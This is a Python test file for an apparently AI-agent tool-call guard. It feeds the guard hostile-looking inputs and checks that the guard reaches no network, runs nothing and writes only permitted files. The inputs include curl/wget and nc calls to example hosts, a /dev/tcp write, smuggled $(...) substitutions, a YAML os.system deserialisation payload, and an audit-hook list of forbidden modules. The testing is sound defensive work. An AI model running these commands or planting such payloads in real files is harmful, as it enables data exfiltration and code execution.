"""What the process touches: no network, no other program, no file but those it was given.

The interpreter's own audit events are the witness. A forbidden one ends the process on the spot with a status that
nothing else has.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from support import ROOT, Server, message, run

CAUGHT = 97

WATCH = """
import os, sys
FORBIDDEN = (
    "socket.", "urllib.", "http.", "ftplib.", "smtplib.", "ssl.", "subprocess.", "os.system", "os.exec", "os.spawn",
    "os.posix_spawn", "os.fork", "pty.", "webbrowser.", "ctypes.", "os.kill", "signal.pthread_kill",
)
def watch(event, arguments):
    if event.startswith(FORBIDDEN):
        os.write(2, f"forbidden: {event} {arguments}".encode())
        os._exit(97)
    if event == "open" and isinstance(arguments[2], int) and arguments[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
        path = os.fsdecode(arguments[0]) if not isinstance(arguments[0], int) else ""
        if path and not path.startswith(WRITABLE):
            os.write(2, f"forbidden: {event} {arguments}".encode())
            os._exit(97)
sys.addaudithook(watch)
"""


def watched(*writable: Path | str) -> str:
    """A prelude under which only these places may be written to. What the interpreter compiles stays unwritten."""
    places = (*map(str, writable), "/dev/null")
    return f"import sys\nsys.dont_write_bytecode = True\nWRITABLE = {places}\n{WATCH}"


COMMANDS = [
    "curl -o MARK https://a.example/ && wget -O MARK http://b.example/x",
    "touch MARK; $(touch MARK); `touch MARK`; cat <(touch MARK) > MARK",
    "python3 -c \"open('MARK', 'w').write('x'); import os; os.system('touch MARK')\"",
    "bash -c 'eval \"touch MARK\"'; sudo sh -c 'touch MARK'",
    "ssh host touch MARK; nc a.example 80 < MARK; echo x > /dev/tcp/127.0.0.1/80",
    "node -e \"require('fs').writeFileSync('MARK', '')\"; perl -e 'open F, \">MARK\"'",
]


def traffic(mark: Path) -> bytes:
    """Calls that would leave a mark or reach out if anybody ran them, each often enough to be stopped."""
    lines: list[bytes] = []
    calls: list[tuple[str, Any]] = [("bash", {"command": command.replace("MARK", str(mark))}) for command in COMMANDS]
    calls += [
        ("powershell", {"command": f"Invoke-WebRequest https://a.example -OutFile {mark}; New-Item {mark}"}),
        ("fetch", {"url": "https://a.example/x", "method": "POST", "body": "x"}),
        ("fetch", {"url": "http://127.0.0.1:1/"}),
        ("read", {"file_path": f"file://{mark}"}),
        ("write", {"file_path": str(mark), "content": "__import__('os').system('id')"}),
        ("x", {"!!python/object/apply:os.system": [f"touch {mark}"], "__class__": "x", "{0.__class__}": "%s%n"}),
    ]
    for index, (tool, arguments) in enumerate(calls):
        for number in range(13):
            call = {"callId": f"{number}-{index}", "tool": tool, "arguments": arguments, "explain": number == 3}
            lines.append(message("guard", {**call, "canAsk": False}))
            lines.append(message("postExecute", {"callId": call["callId"], "result": {"content": f"$(touch {mark})"}}))
    return b"".join(lines)


@pytest.mark.parametrize("profile", ["standard", "loop-guard", "adaptive"])
def test_serving_reaches_no_network_runs_nothing_and_writes_nowhere(profile: str, tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    done = run("serve", "--profile", profile, data=traffic(mark), prelude=watched(), cwd=tmp_path)
    assert (done.returncode, done.stderr) == (0, b"")
    assert done.stdout.count(b"\n") == traffic(mark).count(b"\n")
    assert b'"deny"' in done.stdout
    assert list(tmp_path.iterdir()) == []


def test_with_a_state_and_a_recording_it_writes_those_files_alone(tmp_path: Path) -> None:
    mark, kept = tmp_path / "mark", tmp_path / "kept"
    kept.mkdir()
    done = run(
        *("serve", "--state", str(kept / "state.sqlite"), "--record", str(kept / "recording.jsonl")),
        data=traffic(mark),
        prelude=watched(kept),
    )
    assert (done.returncode, done.stderr) == (0, b"")
    assert [path.name for path in tmp_path.iterdir()] == ["kept"]


@pytest.mark.parametrize("client", ["claude-code", "codex", "gemini-cli"])
def test_a_hook_reaches_no_network_runs_nothing_and_writes_the_state_alone(client: str, tmp_path: Path) -> None:
    name = {"gemini-cli": "BeforeTool"}.get(client, "PreToolUse")
    tool = {"gemini-cli": "run_shell_command"}.get(client, "Bash")
    for command in COMMANDS:
        event = {
            "session_id": "s",
            "transcript_path": str(tmp_path / "none"),
            "cwd": str(tmp_path),
            "hook_event_name": name,
            "tool_name": tool,
            "tool_input": {"command": command.replace("MARK", str(tmp_path / "mark"))},
        }
        state = tmp_path / "state"
        done = run(
            "hook",
            client,
            data=json.dumps(event).encode(),
            prelude=watched(state, *(ROOT / package for package in ("breaker", "protocol"))),  # compiled modules
            XDG_STATE_HOME=str(state),
            HOME=str(tmp_path),
        )
        assert (done.returncode, done.stderr) == (0, b"")
    assert {path.name for path in tmp_path.iterdir()} == {"state"}


def test_a_replay_reaches_no_network_runs_nothing_and_writes_the_page_alone(tmp_path: Path) -> None:
    mark, page = tmp_path / "mark", tmp_path / "out"
    page.mkdir()
    recording = tmp_path / "requests.jsonl"
    recording.write_bytes(traffic(mark))
    done = run(
        *("replay", "--jobs", "1", "--html", str(page / "page.html"), str(recording)),
        prelude=watched(page),
    )
    assert (done.returncode, done.stderr) == (0, b"")
    assert {path.name for path in tmp_path.iterdir()} == {"out", "requests.jsonl"}


@pytest.mark.parametrize("suffix", [".yaml", ".json", ".toml"])
def test_a_configuration_is_data(suffix: str, tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    hostile = {
        ".yaml": f"window: !!python/object/apply:os.system ['touch {mark}']\n",
        ".json": json.dumps({"window": {"__reduce__": f"touch {mark}"}}),
        ".toml": f'window = "$(touch {mark})"\n',
    }[suffix]
    file = tmp_path / f"config{suffix}"
    file.write_text(hostile)
    done = run("check-config", str(file), prelude=watched())
    assert done.returncode == 2
    assert not mark.exists()


@pytest.mark.parametrize(
    "deed",
    [
        "import socket; socket.socket()",
        "import os; os.system('true')",
        "import subprocess; subprocess.run(['true'])",
        "open('elsewhere', 'w')",
        "import os; os.open('elsewhere', os.O_CREAT)",
    ],
)
def test_the_watch_sees_what_it_is_there_for(deed: str, tmp_path: Path) -> None:
    prelude = watched() + "\nfrom breaker.engine import Engine\nEngine.guard = lambda *a, **k: exec(" + repr(deed) + ")"
    with Server(prelude=prelude, cwd=tmp_path) as server:
        server.send(message("guard", {"tool": "x", "arguments": {}}))
        assert server.wait() == CAUGHT
        assert "forbidden" in server.stderr()
